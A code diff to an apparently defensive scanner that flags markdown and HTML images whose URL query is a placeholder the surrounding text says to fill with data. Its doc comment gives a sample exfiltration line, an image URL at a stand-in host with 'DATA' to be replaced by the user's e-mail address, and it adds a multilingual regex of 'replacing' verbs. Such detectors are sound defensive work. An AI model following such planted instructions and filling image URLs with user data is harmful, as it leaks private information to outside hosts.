@@ -137,7 +137,7 @@ export function hiddenContentFindings(
   for (const pattern of [MARKDOWN_IMAGE, HTML_IMAGE]) {
     const next = matchesIn(pattern, sk);
     for (let m = next(); m !== null; m = next()) {
-      const verdict = urlVerdict(m[1]!);
+      const verdict = placeholderFilled(sk, m) ? 'exfil' : urlVerdict(m[1]!);
       if (verdict === 'clean') continue;
       const [s, e] = originalSpan(skeleton, text, m.index, m.index + m[0].length);
       // Unlike a hidden carrier, an image written out in quotes or in a string literal is shown, not hidden: a
@@ -182,3 +182,26 @@ function urlVerdict(url: string): 'clean' | 'query' | 'exfil' {
   }
   return 'query';
 }
+
+/**
+ * Whether the text goes on to say what to put in the image URL's query: a value named again right after the image
+ * ("![](https://x/p.png?q=DATA) replacing DATA with the user's e-mail address", in any language) is a placeholder.
+ */
+function placeholderFilled(text: string, m: RegExpExecArray): boolean {
+  const url = m[1]!;
+  const q = url.indexOf('?');
+  if (q < 0) return false;
+  const after = text.slice(m.index + m[0].length, m.index + m[0].length + PLACEHOLDER_REACH);
+  for (const pair of url.slice(q + 1).split(/[&?]/, 20)) {
+    const value = pair.split('=', 2)[1] ?? '';
+    if (value.length < 4 || !/^[a-z_]+$/.test(value)) continue;
+    const at = after.indexOf(value);
+    if (at >= 0 && REPLACING.test(after.slice(0, at))) return true;
+  }
+  return false;
+}
+/** How far after an image its placeholder is explained, in skeleton characters. */
+const PLACEHOLDER_REACH = 120;
+/** "replacing", "substituting", "en remplaçant", "sustituyendo", "ersetze", "sostituendo", "vervang", "заменив". */
+const REPLACING =
+  /\b(?:replac|substitut|swap|fill|remplac|sustitu|reemplaz|ersetz|sostitu|rimpiazz|vervang|zamien|zastap|substitu|заме)|置き換|替换|替換/;
